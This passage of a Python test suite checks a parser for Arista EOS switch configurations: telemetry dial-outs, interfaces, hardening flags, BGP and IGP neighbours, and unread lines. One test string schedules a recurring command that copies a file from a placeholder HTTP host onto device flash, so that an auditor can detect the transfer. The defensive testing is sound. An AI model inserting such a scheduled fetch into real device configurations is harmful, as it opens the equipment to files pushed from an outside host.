            "schedule j interval 5 max-log-files 1 command copy http://192.0.2.1/x flash:"
        ).transfers.transfers
        assert (found.outbound, found.host) == (False, "192.0.2.1")

    def test_dialouts(self) -> None:
        text = "daemon T\n   exec /usr/bin/TerminAttr -cvaddr=a.example:443,b.example:9910 -ingestgrpcurl=10.0.0.1:9910 -cvauth=token,/tmp/token\n   no shutdown\nmanagement cvx\n   no shutdown\n   server host 10.0.0.2\nmonitor telemetry influx\n   destination influxdb D\n      url https://10.0.0.3:8086\nrouter bgp 1\n   monitoring station S\n      connection address 10.0.0.4"
        found = {one.address: one for one in facts(text).dialout.connections}
        assert set(found) == {"a.example", "b.example", "10.0.0.1", "10.0.0.2", "10.0.0.3", "10.0.0.4"}
        assert (found["a.example"].takes_commands, found["10.0.0.1"].takes_commands) == (True, False)
        assert (found["a.example"].tls.need(), found["10.0.0.3"].tls.need()) == (True, True)
        assert found["10.0.0.2"].active
        tunnel = next(one for one in WHOLE.dialout.connections if one.kind == "grpc-tunnel")
        assert (tunnel.address, tunnel.port, tunnel.takes_commands, tunnel.tls.need()) == (
            "203.0.113.21",
            10000,
            True,
            False,
        )

    def test_agents_with_several_clusters(self) -> None:
        text = (
            "daemon T\n   exec /usr/bin/TerminAttr -cvopt DC1.addr=10.20.20.1:9910 -cvopt DC1.auth=key,x -cvopt DC1.vrf=mgt"
            " -cvopt DC2.addr=10.30.30.1:9910 -cvopt DC2.auth=token,/tmp/token\n   shutdown"
        )
        first, second = facts(text).dialout.connections
        assert (first.address, first.port, first.vrf, first.takes_commands, first.active) == (
            "10.20.20.1",
            9910,
            "mgt",
            True,
            False,
        )
        assert isinstance(first.tls, Unknown)
        assert (second.address, second.vrf, second.tls.need()) == ("10.30.30.1", "", True)

    def test_other_managers(self) -> None:
        text = "vmtracer session V\n   url https://10.0.0.5\n   username u\n   password 7 x\nmcs client\n   no shutdown\n   cvx secondary default\n      server host 10.0.0.6"
        found = {one.address: one for one in facts(text).dialout.connections}
        assert (found["10.0.0.5"].takes_commands, found["10.0.0.5"].tls.need()) == (True, True)
        assert found["10.0.0.6"].active

    def test_names(self) -> None:
        found = facts(
            "ip name-server vrf M 10.0.0.1 2001:db8::1\nip name-server 10.0.0.2\nip host a 10.0.0.3\nno ip name-server 10.0.0.2"
        ).names
        assert [(one.address, one.vrf) for one in found.resolvers] == [("10.0.0.1", "M"), ("2001:db8::1", "M")]
        assert len(found.static_hosts) == 1


class TestInterfaces:
    def test_addresses(self) -> None:
        text = "interface Vlan10\n   vrf V\n   ip address 10.0.0.1/24\n   ip address 10.0.0.9/24\n   ip address 10.0.1.1/24 secondary\n   ip address virtual 10.0.2.1/24\n   no ip address 10.0.0.1/24\ninterface Ethernet1\n   no switchport\n   ip address dhcp"
        vlan, port = facts(text).interfaces.interfaces
        assert vlan.addresses == ("10.0.0.9/24", "10.0.1.1/24", "10.0.2.1/24")
        assert (vlan.secondary, vlan.vrf, vlan.role) == (("10.0.1.1/24",), "V", "vlan")
        assert port.dynamic

    def test_layer_two(self) -> None:
        bundle, *_, member = (WHOLE.interfaces.interfaces[0], WHOLE.interfaces.interfaces[2])
        assert bundle.switchport is not None
        assert (bundle.switchport.mode, bundle.switchport.native_vlan, bundle.switchport.allowed_vlans) == (
            "trunk",
            "99",
            "1-5,7",
        )
        assert (bundle.members, member.bundle) == (("Ethernet2",), "Port-Channel1")
        (subinterface,) = facts("interface Ethernet1.10\n   encapsulation dot1q vlan 10").interfaces.interfaces
        assert subinterface.switchport is None

    def test_hardening(self) -> None:
        text = "no ip icmp redirect\nip icmp rate-limit-unreachable 0\ninterface Ethernet1\n   no switchport\n   ip proxy-arp\n   ip directed-broadcast\n   ip verify unicast source reachable-via any"
        (port,) = facts(text).interfaces.interfaces
        assert port.hardening is not None
        assert [
            one.need()
            for one in (
                port.hardening.redirects,
                port.hardening.unreachables,
                port.hardening.proxy_arp,
                port.hardening.directed_broadcast,
            )
        ] == [False, False, True, True]
        assert port.urpf.need() == "loose"

    def test_the_old_form_of_vrf_and_a_block_that_comes_twice(self) -> None:
        (port,) = facts(
            "interface Ethernet1\n   vrf forwarding V\ninterface Ethernet1\n   shutdown"
        ).interfaces.interfaces
        assert (port.vrf, port.shutdown) == ("V", True)

    def test_profiles_are_unread(self) -> None:
        found = facts("interface profile P\n   command ip access-group A in\ninterface Ethernet1\n   profile P")
        assert len(found.unread[Area.INTERFACES]) >= 2

    def test_lldp(self) -> None:
        found = facts("no lldp run").discovery.protocols[0]
        assert (found.protocol, found.enabled.need()) == ("lldp", False)
        assert facts("hostname x").discovery.protocols[0].enabled.need() is True


class TestRouting:
    def test_neighbours_inherit_and_override(self) -> None:
        found = {(one.address, one.vrf): one for one in WHOLE.routing.bgp}
        up = found["198.51.100.2", ""]
        assert (up.remote_as, up.group, up.authentication.need(), up.ttl_security.need(), up.prefix_limit.need()) == (
            "65001",
            "UP",
            "md5",
            True,
            True,
        )
        assert (up.policies_in, up.families, up.external) == (("RM",), ("ipv4",), True)
        assert found["192.0.2.9", ""].authentication.need() == "tcp-ao"
        assert not found["192.0.2.9", ""].active
        assert found["192.0.2.9", ""].flowspec
        assert found["10.2.0.0/16", ""].dynamic
        assert found["10.2.0.0/16", ""].remote_as == "65002"
        assert found["10.1.0.2", "CUST"].prefix_limit.need() is False

    def test_the_default_limit_depends_on_the_release(self) -> None:
        text = "! device: r1 (X, EOS-{}F)\nrouter bgp 1\n   neighbor 192.0.2.1 remote-as 2\nend"
        assert read(text.format("4.22.1")).facts.routing.bgp[0].prefix_limit.need() is True
        assert isinstance(read(text.format("4.30.1")).facts.routing.bgp[0].prefix_limit, Unknown)
        assert isinstance(
            read("router bgp 1\n   neighbor 192.0.2.1 remote-as 2\nend").facts.routing.bgp[0].prefix_limit, Unknown
        )

    def test_what_a_neighbour_takes_back(self) -> None:
        text = "router bgp 1\n   neighbor G peer group\n   neighbor G password 7 x\n   neighbor G shutdown\n   neighbor 192.0.2.1 peer group G\n   no neighbor 192.0.2.1 password\n   no neighbor 192.0.2.1 shutdown\n   neighbor interface Ethernet1 peer-group G remote-as 2"
        first, second = facts(text).routing.bgp
        assert (first.authentication.need(), first.active) == ("", True)
        assert (second.address, second.remote_as, second.active) == ("Ethernet1", "2", False)

    def test_names_of_policies_without_a_definition(self) -> None:
        text = "router bgp 1\n   neighbor 192.0.2.1 remote-as 2\n   neighbor 192.0.2.1 route-map NOMAP in\n   neighbor 192.0.2.1 prefix-list NOLIST out\n   redistribute static route-map NOMAP2"
        assert {(one.kind, one.name) for one in facts(text).acls.undefined} == {
            ("route-map", "NOMAP"),
            ("prefix-list", "NOLIST"),
            ("route-map", "NOMAP2"),
        }

    def test_groups_that_no_statement_makes(self) -> None:
        text = "router bgp 1\n   neighbor 192.0.2.1 peer group NOGROUP\n   neighbor LOST remote-as 2\n   neighbor interface Ethernet1 peer-group NOGROUP2 remote-as 3"
        found = facts(text)
        assert [one.address for one in found.routing.bgp] == ["192.0.2.1", "Ethernet1"]
        assert {(one.kind, one.name) for one in found.acls.undefined} == {
            ("peer-group", "NOGROUP"),
            ("peer-group", "LOST"),
            ("peer-group", "NOGROUP2"),
        }

    def test_what_is_said_of_a_group_before_it_is_made(self) -> None:
        text = "router bgp 1\n   address-family ipv4\n      neighbor G activate\n   neighbor 192.0.2.1 peer group G\n   neighbor G remote-as 2\n   neighbor G peer group"
        (found,) = facts(text).routing.bgp
        assert (found.remote_as, found.families) == ("2", ("ipv4",))

    def test_limits_that_only_warn_and_functions_as_policies(self) -> None:
        text = "router bgp 1\n   neighbor 192.0.2.1 remote-as 2\n   neighbor 192.0.2.1 maximum-routes 100 warning-only\n   neighbor 192.0.2.1 rcf in F()\n   neighbor 192.0.2.1 rcf out G()"
        (found,) = facts(text).routing.bgp
        assert (found.prefix_limit.need(), found.policies_in, found.policies_out) == (False, ("F()",), ("G()",))

    def test_interior_protocols(self) -> None:
        found = {(one.protocol, one.where): one for one in WHOLE.routing.adjacencies}
        assert found["isis", "Ethernet1"].authentication.need() == "md5"
        assert (
            found["ospf", "Ethernet3"].authentication.need(),
            found["ospf", "Ethernet3"].passive,
            found["ospf", "Ethernet3"].vrf,
        ) == ("md5", True, "CUST")
        assert found["vrrp", "Ethernet3 group 10"].authentication.need() == "text"
        assert found["ldp", "Ethernet1"].authentication.need() == "md5"
        assert len(WHOLE.routing.validators) == 2
        assert WHOLE.routing.key_chains[0].name == "AO"

    def test_isis_of_the_instance_and_unchecked(self) -> None:
        text = "interface Ethernet1\n   isis enable C\nrouter isis C\n   authentication mode md5{}\n   authentication key 7 x"
        assert facts(text.format("")).routing.adjacencies[0].authentication.need() == "md5"
        assert facts(text.format(" rx-disabled")).routing.adjacencies[0].authentication.need() == ""

    def test_ospf_by_network_statement(self) -> None:
        text = "interface Ethernet1\n   no switchport\n   ip address 10.0.0.1/30\ninterface Ethernet2\n   no switchport\n   ip address 192.0.2.1/30\nrouter ospf 1\n   network 10.0.0.0/8 area 0\n   passive-interface Ethernet1"
        (found,) = facts(text).routing.adjacencies
        assert (found.where, found.passive, found.authentication.need()) == ("Ethernet1", True, "")

    def test_pim_msdp_rip_ospfv3(self) -> None:
        text = "interface Ethernet1\n   pim ipv4 sparse-mode\n   ospfv3 ipv6 area 0\n   ospfv3 authentication ipsec spi 300 sha1 passphrase 7 x\nrouter msdp\n   peer 10.0.0.1\n      mesh-group A\nrouter rip\n   network 10.0.0.0/8"
        found = {one.protocol: one for one in facts(text).routing.adjacencies}
        assert set(found) == {"pim", "ospfv3", "msdp", "rip"}
        assert found["ospfv3"].authentication.need() == "ipsec"


class TestOthers:
    def test_control_plane(self) -> None:
        assert facts("hostname x").control_plane.policed.need() is True
        assert facts("hostname x").control_plane.builtin
        assert WHOLE.control_plane.filters[0].name == "MGMT-IN"

    def test_core_protocols(self) -> None:
        (found,) = WHOLE.telecom.bindings
        assert (found.protocol, found.peers, found.permits) == ("gtp-c", ("203.0.113.0/24",), True)
        (sctp,) = facts("ip access-list A\n   permit sctp any any eq 36412").telecom.bindings
        assert sctp.protocol == "s1ap"

    def test_unread_lines_stand_in_their_area(self) -> None:
        found = facts(
            "management ssh\n   frobnicate\nsnmp-server frob\nusername\nfrobnicate all\nmonitor session x frob\nlogging frob"
        )
        assert set(found.unread) == {Area.ACCESS, Area.SNMP, Area.ACCOUNTS, Area.MIRRORS, Area.LOGGING}
        assert len(found.coverage[0].unread) == 6

    def test_only_a_whole_configuration_is_complete(self) -> None:
        assert facts("hostname x").complete.need()
        assert isinstance(read(f"{HEADER}hostname x\n").facts.complete, Unknown)
        assert isinstance(read(f"{HEADER}hostname x\n! ...\nend\n").facts.complete, Unknown)
